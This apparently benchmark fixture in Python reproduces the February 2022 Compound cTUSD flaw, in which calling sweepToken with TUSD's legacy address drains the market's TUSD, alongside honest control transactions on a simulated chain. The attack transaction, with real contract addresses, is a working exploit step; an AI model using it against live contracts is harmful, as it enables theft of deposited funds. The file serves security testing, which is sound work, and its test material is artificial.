"""Compound, February 2022 (reported, not used): TUSD had a second address, which `sweepToken` did not know."""

from benches.quality.plan import Incident, Plan, call, gains
from benches.quality.state import entry

MARKET = "0x12392f67bdf24fae0af363c24ac620a2f67dad86"
TUSD = "0x0000000000085d4780b73119b644ae5ecd22b376"
LEGACY = "0x8dd5fbce2f6a956c3022ba3663759011dd51e73e"
TIMELOCK = "0x6d903f6003cca6255d85cca4d3b5e5146dc33925"
UNIT = 10**18
_SWEEP = "sweepToken(address)"
_BALANCES = 14
_RATE = 21 * 10**25
"""Of a share, by Compound's scale."""


def build(plan: Plan) -> None:
    state = plan.state
    attacker = plan.actor("attacker")
    held = state.at(TUSD, entry(MARKET, _BALANCES))
    plan.attack(
        plan.transaction(attacker, MARKET, call(_SWEEP, LEGACY)),
        changes=[gains(TUSD, MARKET, -held)],
        by="account",
    )

    # The market's books, which the attack did not read: interest up to date, shares for all it holds.
    for slot, value in {
        0: 1,
        5: int(plan.install("Agreeable"), 16),
        7: _RATE,
        9: state.number + 1,
        13: held * UNIT // _RATE,
    }.items():
        state.write(MARKET, slot, value)
    saver = plan.actor("saver")
    plan.give(TUSD, saver, 20_000 * UNIT, slot=_BALANCES)
    plan.allow(TUSD, saver, MARKET, slot=15)
    plan.honest(
        "supply of 20,000 TUSD",
        plan.transaction(saver, MARKET, call("mint(uint256)", 20_000 * UNIT)),
        changes=[gains(TUSD, MARKET, 20_000 * UNIT), gains(MARKET, saver, 1)],
    )
    wallet, holder = plan.install("Wallet"), plan.actor("wallet's holder")
    plan.give(MARKET, wallet, 10**16, slot=14)
    plan.honest(
        "a wallet redeems a hundredth of the market",
        plan.through(
            wallet,
            holder,
            (MARKET, 0, call("redeemUnderlying(uint256)", held // 100)),
            (TUSD, 0, call("transfer(address,uint256)", holder.address, held // 100)),
            gas=4_000_000,
        ),
        changes=[gains(TUSD, holder, held // 100)],
        by="contract",
    )
    lost, finder = plan.install("PlainToken"), plan.actor("finder")
    plan.give(lost, MARKET, 700 * UNIT, slot=0)
    plan.honest(
        "another token, sent there by mistake, is swept to the owner",
        plan.transaction(finder, MARKET, call(_SWEEP, lost)),
        changes=[gains(lost, TIMELOCK, 700 * UNIT)],
    )


COMPOUND = Incident(
    "Compound",
    {"cTUSD": MARKET},
    build,
    note="for honest uses a stand-in agrees in the comptroller's place, and the market's books are made to fit",
)
